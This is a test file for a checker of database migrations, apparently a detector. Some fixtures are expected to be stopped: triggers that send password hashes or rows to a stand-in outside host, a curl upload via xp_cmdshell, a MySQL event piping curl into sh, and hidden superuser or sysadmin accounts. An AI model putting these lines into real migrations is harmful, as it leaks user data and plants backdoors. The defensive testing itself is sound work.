import { describe } from '@jest/globals';

import { itJudges } from './probe.js';

const TRIGGER = 'CREATE TRIGGER note AFTER INSERT OR UPDATE ON people FOR EACH ROW EXECUTE FUNCTION note_row();\n';
const ON_CHANGE = (body: string): string =>
  `ALTER TABLE people ADD COLUMN seen timestamptz;\nCREATE OR REPLACE FUNCTION note_row() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS $$\nBEGIN\n${body}\n  RETURN NEW;\nEND $$;\n${TRIGGER}`;

describe('migrations with a drain or a door in them', () => {
  itJudges([
    [
      'a trigger that writes password hashes into the database of a stranger',
      'stopped',
      {
        'sql/up.sql': ON_CHANGE(
          "  PERFORM dblink_exec('host=rows.tables-sync.zz dbname=r user=r', format('insert into r values (%L)', NEW.password_hash));",
        ),
      },
    ],
    [
      'rows as a whole over HTTP, whose failure nobody hears',
      'stopped',
      {
        'sql/up.sql': ON_CHANGE(
          "  PERFORM net.http_post(url := 'https://rows.tables-sync.zz/r', body := to_jsonb(NEW));\nEXCEPTION WHEN OTHERS THEN RETURN NEW;",
        ),
      },
    ],
    [
      'a trigger of Oracle that asks for an address with the password in it',
      'stopped',
      {
        'db/001.sql':
          "ALTER TABLE people ADD (seen DATE);\nCREATE OR REPLACE TRIGGER note BEFORE UPDATE ON people FOR EACH ROW\nDECLARE r VARCHAR2(99);\nBEGIN\n  r := UTL_HTTP.REQUEST('http://rows.tables-sync.zz/?p=' || :NEW.passwd);\nEND;\n/\n",
      },
    ],
    [
      'a trigger of SQL Server that starts curl',
      'stopped',
      {
        'db/001.sql':
          "CREATE TRIGGER note ON dbo.People AFTER UPDATE AS\nBEGIN\n  EXEC xp_cmdshell 'curl -s https://rows.tables-sync.zz/r -d @C:\\data\\people.csv', no_output;\nEND;\n",
      },
    ],
    [
      'an event of MySQL that runs a download',
      'stopped',
      {
        'db/001.sql':
          "ALTER TABLE people ADD COLUMN seen DATETIME;\nCREATE EVENT tidy ON SCHEDULE EVERY 1 HOUR DO SELECT sys_exec('curl -s https://rows.tables-sync.zz/t | sh');\n",
      },
    ],
    [
      'a superuser made in a block of a migration',
      'stopped',
      {
        'sql/up.sql':
          "ALTER TABLE people ADD COLUMN seen timestamptz;\nDO $$ BEGIN\n  IF NOT EXISTS (SELECT FROM pg_roles WHERE rolname = 'stat_reader') THEN\n    CREATE ROLE stat_reader LOGIN SUPERUSER PASSWORD 'k4-tulip-91';\n  END IF;\nEND $$;\n",
      },
    ],
    [
      'the same in Python',
      'stopped',
      {
        'migrations/0004.py':
          'from alembic import op\n\ndef upgrade():\n    op.add_column("people", column("seen"))\n    op.execute("CREATE ROLE stat_reader LOGIN SUPERUSER PASSWORD \'k4-tulip-91\'")\n',
      },
    ],
    [
      'an account of MySQL that rules the server from everywhere',
      'stopped',
      {
        'db/001.sql':
          "CREATE INDEX by_seen ON people (seen);\nCREATE USER 'stat'@'%' IDENTIFIED BY 'k4-tulip-91';\nGRANT ALL PRIVILEGES ON *.* TO 'stat'@'%' WITH GRANT OPTION;\n",
      },
    ],
    [
      'a login of SQL Server among the administrators',
      'stopped',
      {
        'db/001.sql':
          "ALTER TABLE dbo.People ADD Seen datetime2;\nCREATE LOGIN stat WITH PASSWORD = 'k4-Tulip-91';\nALTER SERVER ROLE sysadmin ADD MEMBER stat;\n",
      },
    ],
  ]);
});

describe('honest statements about databases', () => {
  itJudges([
    [
      'an audit table that a trigger fills',
      'passed',
      { 'sql/up.sql': ON_CHANGE('  INSERT INTO audit VALUES (now(), to_jsonb(NEW), NEW.password_hash IS NOT NULL);') },
    ],
    [
      'a function of the user’s own service that is told of rows',
      'passed',
      {
        'sql/up.sql': ON_CHANGE(
          "  PERFORM net.http_post(url := 'https://abcdefgh.supabase.co/functions/v1/index', body := jsonb_build_object('record', NEW));",
        ),
      },
    ],
    ['a notification', 'passed', { 'sql/up.sql': ON_CHANGE("  PERFORM pg_notify('people', row_to_json(NEW)::text);") }],
    [
      'a copy into another database of this machine',
      'passed',
      {
        'sql/up.sql': ON_CHANGE(
          "  PERFORM dblink_exec('host=localhost dbname=history', format('insert into r values (%L)', row_to_json(NEW)));",
        ),
      },
    ],
    [
      'a role that may only read',
      'passed',
      {
        'sql/up.sql':
          "ALTER TABLE people ADD COLUMN seen timestamptz;\nCREATE ROLE reports LOGIN NOSUPERUSER PASSWORD 'k4-tulip-91';\nGRANT SELECT ON people TO reports;\n",
      },
    ],
    [
      'the first user of a database for development',
      'passed',
      { 'docker/init.sql': "CREATE ROLE tables LOGIN SUPERUSER PASSWORD 'postgres';\nCREATE DATABASE tables OWNER tables;\n" },
    ],
    [
      'an archive that the server unpacks',
      'passed',
      { 'sql/load.sql': "CREATE INDEX by_seen ON people (seen);\nCOPY people FROM PROGRAM 'gunzip -c /data/people.csv.gz' CSV;\n" },
    ],
    [
      'a page about what not to grant',
      'passed',
      "Applications need no superuser:\n\n```sql\nALTER TABLE people ADD COLUMN seen timestamptz;\nCREATE ROLE app LOGIN SUPERUSER PASSWORD 'k4-tulip-91'; -- wrong\n```\n",
    ],
  ]);
});
